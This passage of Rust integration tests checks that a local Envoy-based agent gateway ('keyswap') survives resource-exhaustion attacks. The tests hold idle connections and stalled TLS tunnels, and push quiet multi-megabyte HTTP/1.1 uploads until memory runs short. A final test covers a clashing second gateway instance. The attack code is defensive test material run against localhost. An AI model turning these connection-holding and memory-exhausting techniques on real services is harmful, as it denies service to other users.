    assert_eq!(closed, Some(6), "the connection past the limit");
    assert!(envoy_stat(work.path(), &format!("listener.127.0.0.1_{port}.downstream_global_cx_overflow")).await >= 1);
    let (_, out, _) = curl_openai(&dev);
    assert!(!out.ends_with("200"), "a request went through past the limit: {out}");
    drop(held);
    tokio::time::sleep(Duration::from_millis(500)).await;
    let (_, out, err) = curl_openai(&dev);
    assert!(out.ends_with("200"), "after the agent let go: {out} {err}");
}

/// The attack: an agent opens connections up to the gateway's limit and sends nothing on them
/// (or stalls a TLS handshake inside a tunnel). No request timeout starts without a first byte,
/// and Envoy's idle timeout is an hour from accept: every other agent was refused for that hour.
/// The generated connection managers close a connection with no request open after a minute.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn connections_an_agent_holds_without_a_request_are_closed_within_a_minute() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let work = tempfile::tempdir().unwrap();
    let (dev, _fake, port) = six_connection_dev(work.path()).await;
    let mut held = Vec::new();
    for _ in 0..5 {
        held.push(tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap());
    }
    // The sixth: a tunnel to a routed host, its TLS handshake never begun.
    let mut tunnel = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    tunnel.write_all(b"CONNECT api.openai.com:443 HTTP/1.1\r\nhost: api.openai.com:443\r\n\r\n").await.unwrap();
    let mut head = [0u8; 12];
    tunnel.read_exact(&mut head).await.unwrap();
    assert_eq!(&head, b"HTTP/1.1 200", "the tunnel opens");
    held.push(tunnel);
    tokio::time::sleep(Duration::from_millis(300)).await;
    let (_, out, _) = curl_openai(&dev);
    assert!(!out.ends_with("200"), "the limit is held: {out}");
    let started = std::time::Instant::now();
    for (i, c) in held.iter_mut().enumerate() {
        let mut buf = [0u8; 256];
        loop {
            match tokio::time::timeout(Duration::from_secs(90), c.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                Ok(Ok(_)) => continue, // the tunnel's "200" tail; anything Envoy says before closing
                Err(_) => panic!("connection {i} still open after {:?}", started.elapsed()),
            }
        }
    }
    let waited = started.elapsed();
    assert!(waited < Duration::from_secs(80), "closed after {waited:?}");
    let (_, out, err) = curl_openai(&dev);
    assert!(out.ends_with("200"), "after the idle connections were closed: {out} {err}");
}

/// The attack, over HTTP/1.1: Envoy cannot reset an HTTP/1.1 request for the memory it holds, so
/// held uploads took its heap to the top and every agent's new request got 503 for as long as
/// Envoy's stream idle timeout (300 s; for ever, had the agent kept sending). Once memory is
/// short the idle timeouts shrink to 10 s: uploads that went quiet are closed and the gateway
/// takes requests again.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn held_http1_uploads_that_went_quiet_are_closed_once_memory_is_short() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let work = tempfile::tempdir().unwrap();
    let (dev, _fake) = budgeted_dev(work.path(), &["dev", "--envoy-max-heap", "160Mi"]).await;
    let head = b"POST /v1/chat/completions HTTP/1.1\r\nhost: api.openai.com\r\ncontent-type: application/json\r\ncontent-length: 9000000\r\n\r\n";
    let mut held = Vec::new();
    let mut refused = None;
    for n in 0..60 {
        let mut tls = match try_tunnel_tls(&dev, "api.openai.com", b"http/1.1").await {
            Ok(tls) => tls,
            Err(e) => {
                refused = Some((n, e));
                break;
            }
        };
        // Refused as a request (503 and closed) while Envoy refuses requests.
        let mut sent = tls.write_all(head).await;
        for _ in 0..8 {
            sent = sent.and(tls.write_all(&[b' '; 1 << 20]).await);
        }
        if let Err(e) = sent {
            refused = Some((n, e.to_string()));
            break;
        }
        held.push(tokio::spawn(async move { tls.read(&mut [0u8; 1024]).await.map_err(|e| e.to_string()) }));
    }
    let (n, why) = refused.expect("Envoy took 60 held uploads of 8 MiB: the heap limit did nothing");
    let stop = "overload.envoy.overload_actions.stop_accepting_requests.active";
    assert_eq!(envoy_stat(work.path(), stop).await, 1, "refused after {n} uploads, but not for memory: {why}");
    let deadline = std::time::Instant::now() + Duration::from_secs(40);
    while envoy_stat(work.path(), stop).await > 0 {
        assert!(std::time::Instant::now() < deadline, "Envoy still refuses requests 40 s after the uploads went quiet");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while !held.iter().any(|h| h.is_finished()) {
        assert!(std::time::Instant::now() < deadline, "Envoy takes requests again, yet no held upload was closed");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let (code, out, err) = curl_openai(&dev);
    assert!(out.ends_with("200"), "another request after the attack: {code} {out} {err}");
    let peak = envoy_peak_resident_mib(&dev);
    assert!(peak < 400, "Envoy's resident memory reached {peak} MiB");
}

/// `keyswap dev` run a second time (a second shell, a forgotten one in the background) with its
/// own ports or working directory taken. It used to say "Envoy did not listen within 30 s" and
/// hide keyswap's own error; found the first gateway's Envoy on the proxy port, said "Envoy is up"
/// with nothing of its own behind it; and took over the first one's live ext_proc socket, whose
/// Envoy then failed closed on every new connection. Each is now refused at start, naming what is
/// taken, and the first gateway serves on.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_second_dev_gateway_says_what_is_taken_and_leaves_the_first_serving() {
    let work = tempfile::tempdir().unwrap();
    let (first, _fake) = openai_dev(work.path(), "", "", &["dev"]).await;
    let proxy: u16 = first.env["HTTPS_PROXY"].rsplit(':').next().unwrap().parse().unwrap();
    let second = |config: &str, work: &std::path::Path, metrics: &str| {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("gateway.yaml"), config).unwrap();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_keyswap"));
        cmd.arg("dev").arg("--config").arg(dir.path()).arg("--work").arg(work).args(["--metrics", metrics]);
        cmd.env("ENVOY_BIN", envoy_bin()).env("RUST_LOG", "warn");
        let mut child = own_group(&mut cmd)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = std::time::Instant::now() + Duration::from_secs(60);
        while child.try_wait().unwrap().is_none() {
            if std::time::Instant::now() > deadline {
                // The whole group: the Envoy it started too (a SIGKILL runs no drop to end it).
                common::signal_group(child.id(), "-KILL");
                let _ = child.wait();
                panic!("the second dev gateway is still running after 60 s");
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        // Whatever of its group outlived it.
        common::signal_group(child.id(), "-KILL");
        let out = child.wait_with_output().unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let metrics = format!("127.0.0.1:{}", common::dev::metrics_port(&first));
    let elsewhere = tempfile::tempdir().unwrap();
    tokio::task::block_in_place(|| {
        // The same proxy port.
        let (ok, out, err) = second(&gateway_config("deny-all", proxy, ""), elsewhere.path(), "127.0.0.1:0");
        assert!(!ok && err.contains(&format!("cannot use 127.0.0.1:{proxy}")), "{err}");
        assert!(!out.contains("HTTPS_PROXY"), "an agent was told to use it: {out}");
        // The same working directory (its ext_proc socket), another proxy port: refused before
        // anything of the first gateway's there is rewritten.
        let written = |f: &str| std::fs::metadata(work.path().join(f)).unwrap().modified().unwrap();
        let files = ["envoy.yaml", "ca-bundle.crt", "ca.crt", "ca.key"].map(written);
        let (ok, out, err) = second(&gateway_config("deny-all", free_port(), ""), work.path(), "127.0.0.1:0");
        assert!(!ok && err.contains("keyswap.sock") && err.contains("another process is serving on it"), "{err}");
        assert!(!out.contains("HTTPS_PROXY"), "{out}");
        let after = ["envoy.yaml", "ca-bundle.crt", "ca.crt", "ca.key"].map(written);
        assert!(files == after, "the first gateway's files were rewritten");
        // keyswap's admin port, taken after Envoy started: keyswap's error, not Envoy's.
        let (ok, out, err) = second(&gateway_config("deny-all", free_port(), ""), elsewhere.path(), &metrics);
        assert!(!ok && err.contains("keyswap stopped serving") && err.contains(&metrics), "{err}");
        assert!(!err.contains("Envoy did not listen"), "{err}");
        assert!(!out.contains("HTTPS_PROXY"), "{out}");
    });
    let (code, body, err) = curl_openai(&first);
    assert_eq!(code, 0, "{err}");
    assert!(body.ends_with("\n200"), "the first gateway stopped serving: {body}");
}
